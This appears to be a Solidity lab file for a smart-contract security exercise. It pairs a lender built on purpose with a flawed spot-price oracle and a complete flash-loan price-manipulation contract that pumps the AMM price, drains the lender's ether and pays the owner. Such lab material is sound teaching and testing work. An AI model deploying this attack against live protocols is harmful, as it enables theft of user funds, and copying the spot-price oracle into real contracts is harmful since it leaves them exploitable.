// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {CircuitBreaker} from "../CircuitBreaker.sol";
import {AaveStylePool} from "../test/AaveStylePool.sol";
import {UniswapV2StylePair} from "../test/UniswapV2StylePair.sol";

/// @title SpotPriceLender
/// @notice Lends its ether against a collateral token valued at an AMM pair's spot balance ratio (half the value),
/// the oracle mistake flash-loan price manipulations exploit. Lab contract; never deploy it anywhere but a local chain.
contract SpotPriceLender is CircuitBreaker {
    using SafeERC20 for IERC20;

    IERC20 public immutable collateral;
    IERC20 public immutable quote;
    address public immutable pair;

    error SpotPriceLenderPayoutFailed(address to, uint256 amount);

    constructor(IERC20 collateral_, IERC20 quote_, address pair_, address governance, address[] memory guardians, uint32 tripDuration_)
        CircuitBreaker(governance, guardians, tripDuration_)
    {
        collateral = collateral_;
        quote = quote_;
        pair = pair_;
    }

    receive() external payable {}

    /// @notice Quote units (read as wei) per collateral unit, 18 decimals, from the pair's balances.
    function spotPrice() public view returns (uint256) {
        return (quote.balanceOf(pair) * 1e18) / collateral.balanceOf(pair);
    }

    /// @notice Takes `amount` collateral and pays half its spot value in ether (all the lender holds at most).
    function borrow(uint256 amount) external returns (uint256 paid) {
        _requireOperationOpen(this.borrow.selector);
        collateral.safeTransferFrom(msg.sender, address(this), amount);
        paid = (amount * spotPrice()) / 1e18 / 2;
        if (paid > address(this).balance) paid = address(this).balance;
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = msg.sender.call{value: paid}("");
        if (!ok) revert SpotPriceLenderPayoutFailed(msg.sender, paid);
    }
}

/// @title OneShotPriceAttacker
/// @notice Flash-borrows quote tokens, buys collateral with them to pump its spot price, borrows the lender's ether
/// against a little collateral, sells back and repays; all in one transaction, and only once.
contract OneShotPriceAttacker {
    using SafeERC20 for IERC20;

    AaveStylePool private immutable _flash;
    UniswapV2StylePair private immutable _pair;
    SpotPriceLender private immutable _lender;
    IERC20 private immutable _collateral;
    IERC20 private immutable _quote;
    address private immutable _owner;
    bool private _used;
    uint256 private _pledge;

    error OneShotPriceAttackerUsed();
    error OneShotPriceAttackerNoProfit(uint256 balance);

    constructor(AaveStylePool flash, UniswapV2StylePair pair, SpotPriceLender lender, IERC20 collateral, IERC20 quote) {
        _flash = flash;
        _pair = pair;
        _lender = lender;
        _collateral = collateral;
        _quote = quote;
        _owner = msg.sender;
    }

    receive() external payable {}

    /// @param loan quote tokens to flash-borrow; @param pledge collateral tokens (held here) to borrow against
    function attack(uint256 loan, uint256 pledge) external {
        if (_used || msg.sender != _owner) revert OneShotPriceAttackerUsed();
        _used = true;
        _pledge = pledge;
        _flash.flashLoanSimple(address(this), address(_quote), loan, "", 0);
        if (address(this).balance == 0) revert OneShotPriceAttackerNoProfit(0);
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, ) = _owner.call{value: address(this).balance}("");
        ok;
    }

    function executeOperation(address, uint256 amount, uint256 premium, address, bytes calldata) external returns (bool) {
        // Buy collateral with the whole loan: token0 is the collateral, token1 the quote token.
        uint256 out = _amountOut(amount, _quote.balanceOf(address(_pair)), _collateral.balanceOf(address(_pair)));
        _quote.safeTransfer(address(_pair), amount);
        _pair.swap(out, 0, address(this), "");
        _collateral.forceApprove(address(_lender), _pledge);
        _lender.borrow(_pledge);
        // Sell the bought collateral back.
        uint256 back = _amountOut(out, _collateral.balanceOf(address(_pair)), _quote.balanceOf(address(_pair)));
        _collateral.safeTransfer(address(_pair), out);
        _pair.swap(0, back, address(this), "");
        _quote.forceApprove(address(_flash), amount + premium);
        return true;
    }

    function _amountOut(uint256 amountIn, uint256 reserveIn, uint256 reserveOut) private pure returns (uint256) {
        uint256 withFee = amountIn * 997;
        return (withFee * reserveOut) / (reserveIn * 1000 + withFee);
    }
}
